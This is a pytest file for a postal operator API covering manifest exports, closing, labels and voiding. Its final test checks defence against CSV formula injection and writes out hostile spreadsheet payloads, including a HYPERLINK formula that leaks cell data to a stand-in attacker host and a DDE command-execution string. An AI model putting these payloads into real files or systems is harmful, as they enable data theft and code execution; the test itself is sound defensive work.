"""The postal operator API over HTTP against a real server: manifests (JSON, CSV, PDF), close, labels.

Each test posts to a province no other test here serves (35, 36, 45, 46): the module's tests share one
database, where the earliest operator of a province takes its orders."""

from __future__ import annotations

import csv
import io
import subprocess
from pathlib import Path
from typing import Any

import asyncpg
import zxingcpp
from PIL import Image

from delivery import services as delivery_services
from delivery.manifests import CSV_COLUMNS, csv_header, csv_rows
from tests.delivery_fixtures import postal_body


async def issue_and_fulfil(
    client: Any, pool: asyncpg.Pool, province: str, count: int, **buyer: Any
) -> list[dict[str, Any]]:
    """Issue `count` postal invoices over HTTP, then fulfil their orders in process (as the worker would)."""
    body = postal_body(province)
    body["buyer"]["address"].update(buyer)
    answer = await client.post("/v1/invoices/batch", json={"invoices": [body] * count})
    assert answer.status_code == 201, answer.text
    invoices = answer.json()["invoices"]
    async with pool.acquire() as conn:
        assert await delivery_services.fulfil_all(conn, [i["id"] for i in invoices]) == count
    return [(await client.get(f"/v1/invoices/{i['id']}")).json() for i in invoices]


def decode_pdf_barcodes(pdf: bytes, out_dir: Path, name: str, dpi: int = 200) -> list[str]:
    """Every barcode zxing-cpp finds on every page of `pdf`, rendered with pdftoppm."""
    path = out_dir / f"{name}.pdf"
    path.write_bytes(pdf)
    for old in out_dir.glob(f"{name}-*.png"):  # pages an earlier run left must not be read as this PDF's
        old.unlink()
    subprocess.run(["pdftoppm", "-r", str(dpi), "-gray", "-png", str(path), str(out_dir / name)], check=True)
    found: list[str] = []
    for page in sorted(out_dir.glob(f"{name}-*.png")):
        found.extend(r.text for r in zxingcpp.read_barcodes(Image.open(page)))
    return found


async def test_manifest_csv_json_pdf_close_and_next_manifest(
    issuer_client: Any, operator_factory: Any, pool: asyncpg.Pool, output_dir: Path
) -> None:
    province = "35"  # 福建省, as the CSV rows say
    operator = await operator_factory([province])
    invoices = await issue_and_fulfil(issuer_client, pool, province, 3, line1='天河路 1 号, "东"座 2 楼')
    numbers = sorted(i["delivery"]["tracking_number"] for i in invoices)
    assert {i["delivery"]["status"] for i in invoices} == {"manifested"}

    listing = (await operator.get("/v1/postal/manifests", params={"status": "open"})).json()
    assert len(listing["items"]) == 1 and listing["next_cursor"] is None
    manifest = listing["items"][0]
    assert manifest["item_count"] == 3 and manifest["status"] == "open"

    answer = await operator.get(f"/v1/postal/manifests/{manifest['id']}", params={"format": "csv"})
    assert answer.status_code == 200 and answer.headers["content-type"].startswith("text/csv")
    text = answer.content.decode("utf-8")
    assert not text.startswith("\ufeff")
    assert text.split("\r\n", 1)[0] == ",".join(CSV_COLUMNS)
    assert '"天河路 1 号, ""东""座 2 楼"' in text  # RFC 4180 quoting (a line break is refused at issue)
    rows = list(csv.DictReader(io.StringIO(text)))
    assert [r["tracking_number"] for r in rows] == numbers
    by_number = {i["delivery"]["tracking_number"]: i for i in invoices}
    for row in rows:
        inv = by_number[row["tracking_number"]]
        assert row["manifest_number"] == manifest["manifest_number"]
        assert (row["invoice_code"], row["invoice_number"]) == (inv["invoice_code"], inv["invoice_number"])
        assert (row["recipient"], row["phone"], row["city"], row["province"], row["postal_code"], row["country"]) == (
            "张三",
            "+8613800138000",
            "广州市",
            "福建省",
            "510000",
            "CN",
        )
        assert row["created_at"].endswith("Z")

    as_json = (await operator.get(f"/v1/postal/manifests/{manifest['id']}")).json()
    assert as_json["manifest"]["manifest_number"] == manifest["manifest_number"]
    assert [item["tracking_number"] for item in as_json["items"]] == numbers

    reference = csv_header() + "".join(csv_rows(as_json["items"]))
    assert text == reference  # the streamed export writes exactly what the pure mapping does

    pdf = await operator.get(f"/v1/postal/manifests/{manifest['id']}", params={"format": "pdf"})
    assert pdf.status_code == 200 and pdf.content.startswith(b"%PDF")
    out = output_dir / "delivery"
    out.mkdir(exist_ok=True)
    decoded = decode_pdf_barcodes(pdf.content, out, "manifest")
    assert set(numbers) <= set(decoded) and manifest["manifest_number"] in decoded

    closed = await operator.post(f"/v1/postal/manifests/{manifest['id']}/close")
    assert closed.status_code == 200 and closed.json()["status"] == "closed"
    again = await operator.post(f"/v1/postal/manifests/{manifest['id']}/close")
    assert again.status_code == 409 and again.headers["content-type"] == "application/problem+json"
    statuses = {(await issuer_client.get(f"/v1/invoices/{i['id']}")).json()["delivery"]["status"] for i in invoices}
    assert statuses == {"dispatched"}

    [later] = await issue_and_fulfil(issuer_client, pool, province, 1)
    listing = (await operator.get("/v1/postal/manifests")).json()["items"]
    assert [m["status"] for m in listing] == ["open", "closed"] and listing[0]["id"] != manifest["id"]
    assert listing[0]["item_count"] == 1
    frozen = await operator.get(f"/v1/postal/manifests/{manifest['id']}", params={"format": "csv"})
    assert frozen.content.decode() == text and later["delivery"]["tracking_number"] not in text


async def test_manifest_list_pages_with_a_cursor(issuer_client: Any, operator_factory: Any, pool: asyncpg.Pool) -> None:
    province = "36"
    operator = await operator_factory([province])
    for _ in range(3):
        await issue_and_fulfil(issuer_client, pool, province, 1)
        [m] = (await operator.get("/v1/postal/manifests", params={"status": "open"})).json()["items"]
        assert (await operator.post(f"/v1/postal/manifests/{m['id']}/close")).status_code == 200
    first = (await operator.get("/v1/postal/manifests", params={"limit": 2})).json()
    assert len(first["items"]) == 2 and first["next_cursor"]
    second = (await operator.get("/v1/postal/manifests", params={"limit": 2, "cursor": first["next_cursor"]})).json()
    assert len(second["items"]) == 1 and second["next_cursor"] is None
    bad = await operator.get("/v1/postal/manifests", params={"cursor": "nonsense"})
    assert bad.status_code == 400 and bad.json()["errors"][0]["field"] == "cursor"


async def test_label_pdf_has_the_tracking_barcode(
    issuer_client: Any, operator_factory: Any, pool: asyncpg.Pool, output_dir: Path
) -> None:
    province = "45"
    operator = await operator_factory([province], name="广西邮政速递 Guangxi Post")
    [inv] = await issue_and_fulfil(issuer_client, pool, province, 1)
    number = inv["delivery"]["tracking_number"]
    answer = await operator.get(f"/v1/postal/labels/{number}")
    assert answer.status_code == 200 and answer.headers["content-type"] == "application/pdf"
    out = output_dir / "delivery"
    out.mkdir(exist_ok=True)
    decoded = decode_pdf_barcodes(answer.content, out, "label", dpi=150)
    assert sorted(decoded) == sorted([number, inv["verify_url"]])
    from pypdf import PdfReader

    reader = PdfReader(io.BytesIO(answer.content))
    box = reader.pages[0].mediabox
    assert (round(float(box.width) / 72 * 25.4), round(float(box.height) / 72 * 25.4)) == (100, 150)
    page_text = reader.pages[0].extract_text()
    assert inv["invoice_number"] in page_text and inv["invoice_code"] in page_text
    lower = await operator.get(f"/v1/postal/labels/{number.lower()}")
    assert lower.status_code == 200


async def test_void_before_dispatch_cancels_the_order_and_leaves_the_manifest(
    issuer_client: Any, operator_factory: Any, pool: asyncpg.Pool
) -> None:
    province = "46"
    operator = await operator_factory([province])
    kept, voided = await issue_and_fulfil(issuer_client, pool, province, 2)
    answer = await issuer_client.post(f"/v1/invoices/{voided['id']}/void", json={"reason": "开错了"})
    assert answer.status_code == 200 and answer.json()["delivery"]["status"] == "cancelled"
    [m] = (await operator.get("/v1/postal/manifests", params={"status": "open"})).json()["items"]
    assert m["item_count"] == 1
    text = (await operator.get(f"/v1/postal/manifests/{m['id']}", params={"format": "csv"})).text
    assert kept["delivery"]["tracking_number"] in text and voided["delivery"]["tracking_number"] not in text
    assert (await operator.post(f"/v1/postal/manifests/{m['id']}/close")).status_code == 200
    after = (await issuer_client.get(f"/v1/invoices/{voided['id']}")).json()["delivery"]["status"]
    assert after == "cancelled"
    refused = await issuer_client.post(f"/v1/invoices/{kept['id']}/void", json={"reason": "太晚了"})
    assert refused.status_code == 409


async def test_a_formula_typed_by_a_buyer_comes_out_as_text_in_the_manifest_csv(
    issuer_client: Any, operator_factory: Any, pool: asyncpg.Pool
) -> None:
    """The attack: a recipient `=HYPERLINK(...)` on a postal invoice ran as a live link in the operator's
    spreadsheet. Read back, every typed cell that starts a formula is quoted text behind a single quote, and the
    streamed export (PostgreSQL's COPY) writes exactly what the pure mapping does."""
    province = "33"  # 浙江省: a province no other test of this module uses
    operator = await operator_factory([province])
    formula = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
    typed = {"recipient": formula, "line1": "@SUM(1+1)", "city": "+cmd|' /C calc'!A0", "postal_code": "-1+1"}
    [invoice] = await issue_and_fulfil(issuer_client, pool, province, 1, **typed)
    [manifest] = (await operator.get("/v1/postal/manifests", params={"status": "open"})).json()["items"]
    answer = await operator.get(f"/v1/postal/manifests/{manifest['id']}", params={"format": "csv"})
    text = answer.content.decode("utf-8")
    [row] = list(csv.DictReader(io.StringIO(text)))
    assert row["recipient"] == "'" + formula and row["address_line1"] == "'@SUM(1+1)"
    assert row["city"] == "'+cmd|' /C calc'!A0" and row["postal_code"] == "'-1+1"
    assert '"\'=HYPERLINK(""http://evil.example/?x=""&A1,""Click"")"' in text  # quoted, quotes doubled
    assert row["phone"] == "+8613800138000"
    as_json = (await operator.get(f"/v1/postal/manifests/{manifest['id']}")).json()
    assert as_json["items"][0]["recipient"] == formula  # JSON is data: it carries the text as typed
    assert text == csv_header() + "".join(csv_rows(as_json["items"]))
    assert invoice["buyer"]["address"]["recipient"] == formula
